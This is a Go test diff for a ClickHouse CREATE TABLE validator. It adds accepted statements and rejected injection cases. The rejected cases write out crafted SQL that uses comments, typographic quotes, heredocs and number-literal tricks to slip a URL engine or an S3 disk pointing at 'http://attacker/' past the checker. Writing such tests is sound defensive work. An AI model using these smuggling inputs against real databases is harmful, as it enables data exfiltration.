@@ -11,7 +11,10 @@ func TestCheckCreate(t *testing.T) {
 		"CREATE TABLE guardian.t (`d` Date, `x` UInt64) ENGINE = MergeTree(d, (x), 8192)",
 		"CREATE TABLE guardian.t (`x` Enum8('SELECT' = 1, 'AS' = 2), `y` String DEFAULT 'ENGINE = URL', `z` UInt8 ALIAS x) ENGINE = ReplacingMergeTree() ORDER BY x TTL toDateTime(x) + toIntervalDay(90)",
 		"CREATE TABLE `guardian`.`select` (`as` String) ENGINE = MergeTree() ORDER BY tuple()",
-		"CREATE TABLE guardian.t (`n\u00e4me` String DEFAULT 'caf\u00e9', `x` Float64 DEFAULT 1.5e-3, `disk` String) ENGINE = MergeTree ORDER BY x SETTINGS index_granularity = 8192",
+		"CREATE TABLE guardian.t (`n\u00e4me` String DEFAULT 'caf\u00e9', `x` Float64 DEFAULT 1.5e-3, `disk` String, `h` UInt8 DEFAULT 0x1F) ENGINE = MergeTree ORDER BY x SETTINGS index_granularity = 8192",
+		// Storage the server already has: a named policy, a named disk.
+		"CREATE TABLE guardian.t (`x` UInt64) ENGINE = MergeTree ORDER BY x SETTINGS storage_policy = 'jbods_with_external', index_granularity = 8192",
+		"CREATE TABLE guardian.t (`x` UInt64, disk String) ENGINE = MergeTree ORDER BY x TTL toDateTime(x) TO DISK 'cold' SETTINGS disk = 'hot'",
 	}
 	for _, s := range good {
 		if err := checkCreate(s); err != nil {
@@ -40,12 +43,14 @@ func TestCheckCreate(t *testing.T) {
 		"a tagged heredoc":           "CREATE TABLE guardian.zz (`p` String COMMENT $x$'$x$) ENGINE = URL('http://attacker/', TSV) COMMENT $x$' ) ENGINE = MergeTree ORDER BY p $x$",
 		// The same with ClickHouse's // comments and its typographic
 		// quotes, in which an ASCII quote is text too.
-		"a // comment hides the engine": "CREATE TABLE guardian.zz (`p` String) // '\nENGINE = URL('http://attacker/', TSV) // ' ENGINE = MergeTree ORDER BY p",
-		"typographic quotes":            "CREATE TABLE guardian.zz (`p` String COMMENT \u2018'\u2019) ENGINE = URL('http://attacker/', TSV) COMMENT \u2018' ) ENGINE = MergeTree ORDER BY p \u2019",
-		"a typographic identifier":      "CREATE TABLE guardian.zz (\u201c'\u201d String) ENGINE = URL('http://attacker/', TSV) COMMENT \u2018' ) ENGINE = MergeTree ORDER BY p \u2019",
-		"a number hides a word":         "CREATE TABLE guardian.zz (`p` UInt8 DEFAULT 1.5.SELECT) ENGINE = MergeTree ORDER BY p",
-		"a disk of its own":             "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS disk = disk(type = s3, endpoint = 'http://attacker/b/', access_key_id = 'a', secret_access_key = 'b')",
-		"a storage policy":              "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS storage_policy = 'remote'",
+		"a // comment hides the engine":  "CREATE TABLE guardian.zz (`p` String) // '\nENGINE = URL('http://attacker/', TSV) // ' ENGINE = MergeTree ORDER BY p",
+		"typographic quotes":             "CREATE TABLE guardian.zz (`p` String COMMENT \u2018'\u2019) ENGINE = URL('http://attacker/', TSV) COMMENT \u2018' ) ENGINE = MergeTree ORDER BY p \u2019",
+		"a typographic identifier":       "CREATE TABLE guardian.zz (\u201c'\u201d String) ENGINE = URL('http://attacker/', TSV) COMMENT \u2018' ) ENGINE = MergeTree ORDER BY p \u2019",
+		"a number hides a word":          "CREATE TABLE guardian.zz (`p` UInt8 DEFAULT 1.5.SELECT) ENGINE = MergeTree ORDER BY p",
+		"a disk of its own":              "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS disk = disk(type = s3, endpoint = 'http://attacker/b/', access_key_id = 'a', secret_access_key = 'b')",
+		"an exponent hides a word":       "CREATE TABLE guardian.zz (`p` UInt8 DEFAULT 1e5.SELECT) ENGINE = MergeTree ORDER BY p",
+		"a signed exponent hides a word": "CREATE TABLE guardian.zz (`p` UInt8 DEFAULT 1e+5.SELECT) ENGINE = MergeTree ORDER BY p",
+		"a digit-led word hides a word":  "CREATE TABLE guardian.zz (`p` UInt8 DEFAULT 1_.SELECT) ENGINE = MergeTree ORDER BY p",
 	}
 	for name, s := range bad {
 		if err := checkCreate(s); err == nil {
